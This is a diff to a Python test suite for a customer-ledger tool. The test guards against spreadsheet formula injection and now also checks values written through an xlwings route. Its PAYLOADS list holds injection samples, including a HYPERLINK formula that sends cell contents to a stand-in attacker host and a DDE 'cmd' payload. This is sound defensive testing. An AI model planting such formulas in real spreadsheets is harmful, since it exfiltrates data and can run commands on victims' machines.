@@ -5,7 +5,8 @@ CR-led variants, full-width ＝, DDE payloads, HYPERLINK) in every text field of
 its Settings and its bank file; then the whole close (with the bank import appending receipts,
 letters, statements), the customer card, reminders with an iCalendar file, and a masked export.
 Every cell of every xlsx written (the ledger, statements, letters, the export) is checked: none
-holds a formula except the ones custledger writes itself, listed in ALLOWED_FORMULAS.
+holds a formula except the ones custledger writes itself, listed in ALLOWED_FORMULAS; the
+values the xlwings route would type into Excel are checked too (only its own links, XL_LINK).
 """
 
 from __future__ import annotations
@@ -21,6 +22,7 @@ from hypothesis import strategies as st
 
 from custledger import ops
 from custledger.io.filebook import FileBook
+from custledger.io.xlbook import out_rows
 from custledger.io.template import build_ledger
 from custledger.ops.export import export_ledger
 
@@ -37,6 +39,21 @@ PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"点此付款")', "cmd|' /C 
 # out of the run (its card, statement and letter would not be written to be checked)
 hostile = st.builds(lambda p, b, tail: (p + b + tail)[:48], st.sampled_from(PREFIXES), st.sampled_from(PAYLOADS),
                     st.text(alphabet="甲乙,;\"' <>&", max_size=4))
+
+# The only formulas the xlwings route writes: its own internal links, every argument a quoted
+# string literal with its quotes doubled (io/xlbook._link_formula).
+XL_LINK = re.compile(r'=HYPERLINK\("#(?:[^"]|"")*","(?:[^"]|"")*"\)', re.S)
+
+
+class CapturingBook(FileBook):
+    """The file adapter, keeping the generated sheets it was given (to feed the xlwings writer)."""
+
+    outs: list = []
+
+    def write(self, outs, *args, **kwargs):
+        self.outs = list(outs)
+        return super().write(outs, *args, **kwargs)
+
 
 CELL = re.compile(rb"<(?:\w+:)?c\b([^>]*?)(?:/>|>(.*?)</(?:\w+:)?c>)", re.S)
 FORMULA = re.compile(rb"<(?:\w+:)?f\b[^>]*?(?:/>|>(.*?)</(?:\w+:)?f>)", re.S)
@@ -108,8 +125,15 @@ def test_no_writer_emits_a_formula_made_from_data(tmp_path_factory, texts):
     ledger = hostile_ledger(folder / "台账.xlsx", texts)
     bank = hostile_bank(folder / "bank.csv", texts)
     steps = [s for s in ops.STEP_ORDER if s in ops.STEPS]  # the close and the card
-    report = ops.run(FileBook(ledger), steps, month="2026-10", bank=bank, customer_id="C1", allow_errors=True,
+    book = CapturingBook(ledger)
+    report = ops.run(book, steps, month="2026-10", bank=bank, customer_id="C1", allow_errors=True,
                      ics=folder / "team.ics")
+    # the xlwings route (io/xlbook.py) writes the same sheets as Excel input values
+    for out in book.outs:
+        for row in out_rows(out):
+            for v in row:
+                if isinstance(v, str) and v[:1] in ("=", "+", "-", "@") or isinstance(v, str) and v[:1].isspace():
+                    assert XL_LINK.fullmatch(v), (out.name, v)
     export = export_ledger(ledger, folder / "export.xlsx").path
     written = [ledger, export, *[Path(f) for f in report.files if str(f).endswith(".xlsx")]]
     kinds = {p.parent.name for p in written}
